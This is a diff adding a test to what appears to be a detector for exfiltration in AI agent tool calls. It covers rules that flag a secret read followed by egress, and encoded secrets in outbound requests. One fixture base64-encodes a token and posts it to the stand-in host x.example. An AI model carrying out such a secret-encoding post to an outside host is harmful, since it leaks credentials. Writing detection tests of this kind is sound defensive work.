@@ -210,6 +210,14 @@ test('exfil_chain: an egress that happened before the read, arriving after it, i
   assert.ok(rulesOf(run([read, later])).includes('exfil_chain'));
 });
 
+test('exfil_chain: a bare host labelling data (a password manager entry for gitlab.com) is no sink; a host to reach is', () => {
+  const read = toolCall('generate_password', { length: 20 }, 'password: Hq4!zW8@rN2#vK6$tP9m', { ms: 0 });
+  const label = egress('gitlab.com', 'gitlab.com', { ms: 1000, scheme: 'host', location: '$.site' });
+  assert.ok(!rulesOf(run([read, label])).includes('exfil_chain'));
+  const target = egress('gitlab.com', 'gitlab.com', { ms: 1000, scheme: 'host', location: '$.host' });
+  assert.ok(rulesOf(run([read, target])).includes('exfil_chain'));
+});
+
 test('secret_egress finds an encoded secret in an outbound call argument, not in a local call', () => {
   const b64 = Buffer.from('token=ghp_R8x2Kq9LmZ4vT7wYb3Nc6Hd1Jf5Gp0Se8Ua2').toString('base64');
   assert.deepEqual(rulesOf(run([toolCall('http_post', { url: 'https://x.example', body: b64 }, 'ok')])), [
